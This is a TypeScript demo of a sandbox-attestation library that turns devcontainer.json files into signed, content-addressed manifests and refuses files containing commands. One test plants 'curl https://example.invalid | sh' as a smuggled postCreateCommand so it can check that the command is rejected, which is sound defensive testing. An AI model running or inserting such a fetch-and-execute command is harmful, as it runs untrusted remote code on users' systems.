// Demo part 4: environment manifests (§14). A declarative devcontainer.json from the shared corpus,
// its image pinned, becomes a signed manifest: its address, the ignored customizations, a host that
// satisfies it and one that does not; a real file full of commands and widenings is refused with
// every offending member named; a signer cannot smuggle a command into a manifest.
import { readFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { addressOf, canonicalize, pae, signBytes, testKey, toBase64, utf8 } from "@sbx/wire";
import {
  ingestManifest,
  isSandboxAttestError,
  MANIFEST_PAYLOAD_TYPE,
  offerFor,
  satisfies,
  signManifest,
  verifyManifest,
} from "@sbx/sandbox-attest/manifest";
import { check, type DemoContext } from "./context.ts";

const root = resolve(dirname(fileURLToPath(import.meta.url)), "../..");
const corpus = join(root, "testdata/corpus/devcontainer");
const DIGEST = "0123456789abcdef".repeat(4);

function refusalOf(run: () => unknown): { code: string; members: { pointer: string; code: string }[] } {
  try {
    run();
  } catch (e) {
    if (isSandboxAttestError(e)) return { code: e.code, members: [...e.members] };
    throw e;
  }
  throw new Error("expected a refusal");
}

function acceptDeclarative(ctx: DemoContext) {
  const file = "microsoft__vscode-remote-try-go__.devcontainer__devcontainer.json";
  const text = readFileSync(join(corpus, file), "utf8");
  const original = /"image":\s*"([^"]*)"/.exec(text)?.[1] ?? "";
  const asWritten = refusalOf(() => ingestManifest(text));
  check(
    asWritten.members.some((m) => m.pointer === "/image" && m.code === "ImageNotPinned"),
    "the tag-only image is refused",
  );
  ctx.say(
    `${file}: as written, image ${original} → refused (${asWritten.members.map((m) => `${m.pointer} ${m.code}`).join(", ")})`,
  );
  const pinned = text.replace(original, `${original.replace(/:[^/:]*$/, "")}@sha256:${DIGEST}`);
  const m = ingestManifest(pinned);
  const envelope = signManifest(m, testKey("steward"));
  const v = verifyManifest(envelope, [testKey("steward").did]);
  check(
    v.address === m.address && m.address === addressOf(m.environment),
    "the manifest address is the environment's address",
  );
  check(m.ignored.includes("/customizations"), "customizations are listed as ignored");
  ctx.say(`image pinned by digest → accepted; manifest address ${m.address}`);
  ctx.say(`ignored (never configure the sandbox): ${m.ignored.join(", ")}; source digest ${m.source.digest}`);
  ctx.say(`signed by the steward, verified: document ${v.document}`);
  const reformatted = pinned.replace(/\/\/[^\n]*\n/g, "\n").replace(/\s+/g, " ");
  check(
    ingestManifest(reformatted).address === m.address,
    "comments and whitespace do not change the address",
  );
  ctx.say("same file without comments and whitespace → same address");
  return m;
}

export default function manifest(ctx: DemoContext): Promise<void> {
  ctx.title(
    "environment manifests: devcontainer.json → signed, content-addressed manifest (sandbox-attest §14)",
  );
  const m = acceptDeclarative(ctx);
  const host = { cpus: 4, memory_bytes: String(8 * 2 ** 30), storage_bytes: String(32 * 2 ** 30), gpu: null };
  check(
    satisfies(m, offerFor(m.environment, host), m.address).ok,
    "the exact environment satisfies the address",
  );
  const other = satisfies(
    m,
    {
      ...offerFor(m.environment, host),
      image: `mcr.microsoft.com/devcontainers/go@sha256:${"f".repeat(64)}`,
      user: "root",
    },
    m.address,
  );
  check(!other.ok && other.code === "EnvironmentMismatch", "another image and user do not satisfy it");
  ctx.say(
    `resumption check: same environment → ok; other image and user → ${other.code} (${other.mismatches.map((x) => x.pointer).join(", ")})`,
  );

  const file =
    "microsoft__vscode-dev-containers__containers__codespaces-linux__.devcontainer__devcontainer.json";
  const r = refusalOf(() => ingestManifest(readFileSync(join(corpus, file))));
  check(
    r.code === "ManifestRefused" && r.members.length >= 5,
    "a file with several offending members is refused naming all of them",
  );
  ctx.say(`${file}: ${r.code}, ${r.members.length} offending members:`);
  for (const x of r.members) ctx.say(`  ${x.pointer.padEnd(20)} ${x.code}`);

  const smuggled = {
    ...m,
    environment: { ...m.environment, postCreateCommand: "curl https://example.invalid | sh" },
  };
  const body = utf8(canonicalize(smuggled));
  const steward = testKey("steward");
  const forged = {
    payloadType: MANIFEST_PAYLOAD_TYPE,
    payload: toBase64(body),
    signatures: [{ keyid: steward.did, sig: toBase64(signBytes(steward, pae(MANIFEST_PAYLOAD_TYPE, body))) }],
  };
  const s = refusalOf(() => verifyManifest(forged));
  check(
    s.code === "BadManifest" && s.members.some((x) => x.code === "LifecycleCommand"),
    "a smuggled command is refused even with a valid signature",
  );
  ctx.say(
    `a validly signed manifest with a smuggled postCreateCommand → ${s.code} (${s.members.map((x) => `${x.pointer} ${x.code}`).join(", ")})`,
  );
  return Promise.resolve();
}
